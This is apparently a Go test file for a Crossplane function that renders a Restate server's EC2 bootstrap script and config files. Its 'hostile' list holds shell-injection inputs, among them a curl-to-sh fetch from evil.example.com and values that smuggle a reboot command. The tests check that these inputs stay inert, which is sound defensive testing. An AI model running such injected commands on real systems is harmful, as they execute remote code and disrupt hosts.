package fn

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/restate-crossplane/function-restate-stack/apis/v1alpha1"
)

// hostile holds values that would break out of a shell script or heredoc
// if they were spliced into one.
var hostile = []string{
	`"; reboot; echo "`,
	`$(curl evil.example.com | sh)`,
	"`id`",
	"'single' \"double\"",
	"${HOME}",
	"\nEOF\nreboot\n",
}

// TestHostileValuesStayInert feeds hostile values to every claim field that
// reaches the host as free text (the environment and the overrides) and
// checks that each arrives byte for byte in its own file, while the script
// that runs is the same as for harmless values. Fields with a pattern
// (cluster name, RocksDB size, log group) refuse them, as the API server
// does.
func TestHostileValuesStayInert(t *testing.T) {
	baseline := hostOf(t, composeHost(t, newXR(), newPolicy())).Script
	for _, v := range hostile {
		t.Run(v, func(t *testing.T) {
			for name, set := range map[string]func(*v1alpha1.SelfHostedSpec){
				"config.clusterName":            func(s *v1alpha1.SelfHostedSpec) { s.Config.ClusterName = v },
				"config.rocksdbTotalMemorySize": func(s *v1alpha1.SelfHostedSpec) { s.Config.RocksDBTotalMemorySize = v },
				"logs.groupName":                func(s *v1alpha1.SelfHostedSpec) { s.Logs.GroupName = v },
			} {
				xr := newXR(func(xr *v1alpha1.XRestateStack) { set(xr.Spec.Environment.SelfHosted) })
				wantRejected(t, xr, newPolicy(), "spec.environment.selfHosted."+name, "should match")
			}
			if !strings.ContainsAny(v, "\n") {
				xr := newXR(func(xr *v1alpha1.XRestateStack) {
					xr.Spec.Environment.SelfHosted.Config.Environment = map[string]string{"HOSTILE": v}
				})
				h := hostOf(t, composeHost(t, xr, newPolicy()))
				if h.Script != baseline {
					t.Errorf("the script changed with a claim value:\n%s", h.Script)
				}
				wantContains(t, "\n"+fileOnHost(t, h, "server.env"), "\nHOSTILE="+v+"\n")
			}
			// Overrides arrive whole, as given.
			xr := newXR(func(xr *v1alpha1.XRestateStack) {
				s := xr.Spec.Environment.SelfHosted
				s.Config.Override = "cluster-name = 'x'\n" + v
				s.TLS = v1alpha1.TLSSpec{Termination: v1alpha1.TLSSelfSigned, NginxConfigOverride: v}
			})
			h := hostOf(t, composeHost(t, xr, newPolicy()))
			want(t, fileOnHost(t, h, "restate.toml"), "cluster-name = 'x'\n"+v)
			want(t, fileOnHost(t, h, "nginx.conf"), v)
			wantNotContains(t, h.Script, v)
		})
	}
}

func TestUserDataCompressedOnlyWhenNeeded(t *testing.T) {
	h := hostOf(t, composeHost(t, newXR(), newPolicy()))
	if h.Compressed {
		t.Error("small user data was compressed")
	}
	// Each override at the schema's 8192, with TLS: over 16 KiB in base64.
	config := strings.Repeat("# a long, repetitive config comment\n", 227)
	big := newXR(func(xr *v1alpha1.XRestateStack) {
		s := xr.Spec.Environment.SelfHosted
		s.Config.Override = config
		s.TLS = v1alpha1.TLSSpec{Termination: v1alpha1.TLSSelfSigned, NginxConfigOverride: config}
	})
	h = hostOf(t, composeHost(t, big, newPolicy()))
	if !h.Compressed {
		t.Error("user data over 16 KiB was not compressed")
	}
	want(t, fileOnHost(t, h, "restate.toml"), config)
}

// TestRestateAcceptsConfig hands the rendered config to a real
// restate-server (npm @restatedev/restate-server, installed by make test)
// and checks the server reads back every value the claim set. Restate
// ignores unknown keys, so reading the values back is what proves the keys.
func TestRestateAcceptsConfig(t *testing.T) {
	server := os.Getenv("RESTATE_SERVER")
	if server == "" {
		t.Skip("RESTATE_SERVER is not set; make test sets it")
	}
	xr := newXR(func(xr *v1alpha1.XRestateStack) {
		xr.Spec.Environment.SelfHosted.Config = v1alpha1.RestateConfigSpec{ClusterName: "payments", BootstrapNumPartitions: 12, RocksDBTotalMemorySize: "1 GiB"}
		xr.Spec.Environment.SelfHosted.Tracing.Mode = v1alpha1.TracingAWSXRay
	})
	h := hostOf(t, composeHost(t, xr, newPolicy()))
	cfg := filepath.Join(t.TempDir(), "config.toml")
	if err := os.WriteFile(cfg, []byte(fileOnHost(t, h, "restate.toml")), 0o600); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command(server, "--config-file", cfg, "--dump-config").CombinedOutput()
	if err != nil {
		t.Fatalf("restate-server refused the config: %v\n%s", err, out)
	}
	for _, line := range []string{
		`cluster-name = "payments"`,
		`default-num-partitions = 12`,
		`rocksdb-total-memory-size = "1.0 GiB"`,
		`tracing-endpoint = "http://adot-collector:4317"`,
		`bind-address = "0.0.0.0:9070"`,
		`bind-address = "0.0.0.0:8080"`,
		`default-provider = "local"`,
		// Sized for the default t4g.micro with the collector (memory.go).
		`record-cache-memory-size = "57.0 MiB"`,
		`memory-size = "57.0 MiB"`,
		`memory-limit = "115.0 MiB"`,
	} {
		wantContains(t, string(out), "\n"+line+"\n")
	}
}

// TestScriptParses checks the host script of every combination of switches
// with bash's own parser; no EC2 host runs here to execute it.
func TestScriptParses(t *testing.T) {
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("no bash")
	}
	for _, tls := range []v1alpha1.TLSTermination{v1alpha1.TLSNone, v1alpha1.TLSSelfSigned} {
		for _, tracing := range []v1alpha1.TracingMode{v1alpha1.TracingDisabled, v1alpha1.TracingAWSXRay} {
			xr := newXR(func(xr *v1alpha1.XRestateStack) {
				xr.Spec.Environment.SelfHosted.TLS.Termination = tls
				xr.Spec.Environment.SelfHosted.Tracing.Mode = tracing
			})
			script := filepath.Join(t.TempDir(), "bootstrap.sh")
			if err := os.WriteFile(script, []byte(hostOf(t, composeHost(t, xr, newPolicy())).Script), 0o600); err != nil {
				t.Fatal(err)
			}
			if out, err := exec.Command(bash, "-n", script).CombinedOutput(); err != nil {
				t.Errorf("TLS %s, tracing %s: bash -n: %v\n%s", tls, tracing, err, out)
			}
		}
	}
}
